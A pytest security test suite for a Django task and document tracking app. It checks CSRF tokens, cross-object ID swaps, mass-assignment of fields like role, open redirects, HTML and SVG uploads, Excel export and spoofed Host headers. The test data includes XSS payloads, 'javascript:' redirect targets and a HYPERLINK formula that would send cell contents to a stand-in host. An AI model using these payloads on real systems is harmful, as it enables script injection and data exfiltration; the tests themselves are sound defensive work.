"""What somebody tries who is signed in and means ill; attacks on accounts are in tests/caunoi/people."""

from __future__ import annotations

import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from pytest_django.fixtures import Settings

from caunoi.documents import store
from caunoi.documents.models import StoredFile
from caunoi.people.models import Role
from caunoi.people.rights import Needs, Open, role_may
from caunoi.site import permissions
from caunoi.site.access import ADDRESSES
from caunoi.tasks.models import Evidence, Task
from tests.conftest import Province
from tests.pages.conftest import Matters
from tests.pages.test_walk import ROUTES, place
from tests.pages.things import At, Position, Scene
from tests.pages.walked import SENT

ELSEWHERE = (
    "https://elsewhere.example/",
    "//elsewhere.example",
    "/\\elsewhere.example",
    "javascript:alert(1)",
)
SIGNS = ("=", "+", "-", "@", "\t=", "\r=")
HOSTILE = '=HYPERLINK("https://elsewhere.example/?"&A1,"xem")'


def _doer(row_post: object) -> str:
    if isinstance(row_post, Needs):
        return next(role for role in Role.values if role_may(role, row_post))
    return "reader"


# A door's device has no session that a page from elsewhere could lend: it says its secret in a header.
BY_SECRET = {"delegates:arrivals"}


@pytest.mark.parametrize("name", sorted({row.name for row in ADDRESSES if row.post is not None} - BY_SECRET))
def test_a_form_from_elsewhere_is_not_taken(name: str, db: None) -> None:
    """Without the token of our own form nothing is done, for nobody and at no address."""
    scene, row = Scene.build(), permissions.address_row(name)
    assert row is not None
    client = Client(enforce_csrf_checks=True)
    if row.post is not Open.STRANGER:
        client.force_login(scene.walkers[_doer(row.post)])
    at = At(scene, Position.OWN)
    assert client.post(place(name, at), SENT[name](at) if name in SENT else {}).status_code == 403


# Addresses with the number of a thing and the number of one of its parts; the other second parts are words.
PARTS = [
    name
    for name, route in ROUTES.items()
    if len(route.holds) > 1 and not {"kind", "slug", "ending"} & {*route.holds}
]


# Their second part is a page of the first, not a thing of its own.
PAGES = {
    *(
        "documents:review_page",
        "issuing:version",
        "delegates:badge_sheets",
        "meetings:floor",
        "meetings:press",
    )
}


@pytest.mark.parametrize("name", sorted({*PARTS} - PAGES))
def test_parts_of_one_thing_are_not_found_under_another(name: str, db: None) -> None:
    """One's own thing in the address with the number of a part of somebody else's: not there, for all."""
    scene = Scene.build()
    mine, other = place(name, At(scene, Position.OWN)), place(name, At(scene, Position.OTHER))
    parts = [
        a if i < _fork(mine, other) else b
        for i, (a, b) in enumerate(zip(_cut(mine), _cut(other), strict=True))
    ]
    swapped = "/".join(parts)
    assert swapped not in {mine, other}
    for role in Role.values:
        client = Client()
        client.force_login(scene.walkers[role])
        assert client.get(swapped).status_code in {404, 405, 422}
        assert client.post(swapped, {}).status_code in {404, 405, 422}


def _cut(address: str) -> list[str]:
    return address.split("/")


def _fork(mine: str, other: str) -> int:
    """The place after the first part in which the two addresses differ."""
    return next(i for i, (a, b) in enumerate(zip(_cut(mine), _cut(other), strict=True)) if a != b) + 1


EXTRA = {
    "id": "1",
    "pk": "1",
    "state": "accepted",
    "accepted_by": "1",
    "handed_in_by": "1",
    "opened_by": "1",
    "progress": "100",
    "office": "1",
    "role": "admin",
    "is_active": "",
    "result": "xong",
    "document_id": "1",
    "late_on": "2099-01-01",
}


def _state(task: Task) -> str:
    return str(Task.objects.filter(pk=task.pk).values().get())


def test_a_form_changes_only_what_it_asks(matters: Matters) -> None:
    """Fields that the form does not have are not written, whatever the table calls them."""
    before = _state(matters.task)
    sent = {**EXTRA, "text": "Đã gọi điện"}
    assert (
        matters.province.client("unit_contact")
        .post(f"/nhiem-vu/{matters.task.pk}/ghi-chu/", sent)
        .status_code
        == 302
    )
    assert _state(matters.task) == before


def test_a_new_task_takes_nothing_that_is_not_asked(matters: Matters) -> None:
    specialist = matters.province.people["specialist"]
    sent = {**EXTRA, "action": "Gửi báo cáo quý", "owner": matters.province.commune.pk}
    matters.province.client("specialist").post("/nhiem-vu/moi/", sent)
    task = Task.objects.latest("pk")
    assert (task.state, task.progress, task.opened_by, task.accepted_by, task.result) == (
        "open",
        0,
        specialist,
        None,
        "",
    )


def test_one_does_not_promote_oneself(province: Province) -> None:
    reader = province.people["reader"]
    province.client("reader").post("/tai-khoan-cua-toi/", {**EXTRA, "email": "moi@hailam.example"})
    reader.refresh_from_db()
    assert (reader.role, reader.is_active, reader.office) == ("reader", True, province.party_office)


def test_a_stub_is_written_for_ones_own_office(matters: Matters) -> None:
    sent = {
        **EXTRA,
        "number_text": "07-BC/TU",
        "dated_on": "2026-03-03",
        "office": matters.province.commune.pk,
    }
    matters.province.client("specialist").post(f"/van-ban/phieu-mat/{matters.stub.pk}/", sent)
    matters.stub.refresh_from_db()
    assert matters.stub.office == matters.province.party_office


@pytest.mark.parametrize("wanted", ELSEWHERE)
@pytest.mark.parametrize("by", ["post", "get"])
def test_nobody_is_led_elsewhere_after_a_deed(matters: Matters, wanted: str, by: str) -> None:
    address = f"/nhiem-vu/{matters.task.pk}/ghi-chu/"
    client = matters.province.client("unit_contact")
    if by == "post":
        answer = client.post(address, {"text": "Đã gọi điện", "next": wanted})
    else:
        answer = client.post(f"{address}?next={wanted}", {"text": "Đã gọi điện"})
    assert answer.headers["Location"] == f"/nhiem-vu/{matters.task.pk}/"


@pytest.mark.parametrize("wanted", ELSEWHERE)
def test_the_form_does_not_carry_the_way_elsewhere(matters: Matters, wanted: str) -> None:
    page = matters.province.client("unit_contact").get(
        f"/nhiem-vu/{matters.task.pk}/ghi-chu/", {"next": wanted}
    )
    assert "elsewhere.example" not in page.content.decode()
    assert "javascript:alert" not in page.content.decode()


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("bao-cao.html", b"<html><script>alert(1)</script></html>"),
        ("so-do.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("bao-cao.xhtml", b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'/>"),
    ],
)
def test_a_page_is_no_evidence(matters: Matters, name: str, data: bytes) -> None:
    sent = {"proofs": SimpleUploadedFile(name, data, "image/png")}
    answer = matters.province.client("unit_contact").post(f"/nhiem-vu/{matters.task.pk}/minh-chung/", sent)
    assert answer.status_code == 422
    assert Evidence.objects.count() == 1


@pytest.mark.parametrize("media_type", ["text/html", "image/svg+xml", "application/xhtml+xml"])
def test_a_stored_page_is_handed_out_but_never_shown(matters: Matters, media_type: str) -> None:
    """Should one get in all the same: a download, of no kind that a browser would run, under no rights."""
    data = b"<script>alert(1)</script>"
    stored = StoredFile.objects.create(sha256=store.put(data), size=len(data), media_type=media_type)
    matters.evidence.file = stored
    matters.evidence.save()
    matters.incoming.file.media_type = media_type
    matters.incoming.file.save()
    client = matters.province.client("chief")
    for address in (
        f"/nhiem-vu/{matters.task.pk}/minh-chung/{matters.evidence.pk}/",
        f"/van-ban/tep/{matters.incoming.pk}/tai-ve/",
    ):
        answer = client.get(address)
        assert answer.headers["Content-Disposition"].startswith("attachment")
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in answer.headers["Content-Security-Policy"]
        answer.close()


@pytest.mark.parametrize("sign", SIGNS)
def test_a_formula_in_the_words_of_a_task_stays_words(matters: Matters, sign: str) -> None:
    """Excel must show what was typed, not reckon with it."""
    Task.objects.filter(pk=matters.task.pk).update(action=f"{sign}{HOSTILE[1:]}", product=HOSTILE)
    answer = matters.province.client("chief").get("/nhiem-vu/xuat-excel/")
    book = openpyxl.load_workbook(io.BytesIO(answer.content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert any("HYPERLINK" in str(cell.value) for cell in cells)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []


@pytest.mark.logs_error
@pytest.mark.parametrize(
    "host", ["elsewhere.example", "testserver.elsewhere.example", "testserver:80@elsewhere.example"]
)
def test_a_host_that_is_not_ours_is_turned_away(province: Province, settings: Settings, host: str) -> None:
    settings.ALLOWED_HOSTS = ["testserver"]
    assert province.client("chief").get("/", headers={"host": host}).status_code == 400


@pytest.mark.parametrize("header", ["X-Forwarded-Host", "X-Host", "Forwarded"])
def test_a_forwarded_host_is_not_believed(province: Province, header: str) -> None:
    answer = province.client("chief").get("/nhiem-vu/", headers={header: "elsewhere.example"})
    assert answer.status_code == 200
    assert "elsewhere.example" not in answer.content.decode()
